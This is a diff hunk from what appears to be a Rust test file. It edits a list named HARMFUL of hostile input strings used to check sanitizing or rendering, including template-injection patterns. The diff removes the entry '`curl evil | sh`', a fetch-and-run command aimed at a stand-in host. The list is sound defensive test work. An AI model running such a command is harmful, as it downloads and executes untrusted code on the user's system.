@@ -149,7 +149,6 @@ const HARMFUL: &[&str] = &[
     "{\"{{< evil >}}\"}",
     "{\"{% evil %}\"}",
     "{\"{evil}\"}",
-    "`curl evil | sh`",
     " evil@a.org ",
     " @evil_pay ",
     "$\\href{\"{evil}\"}x$",
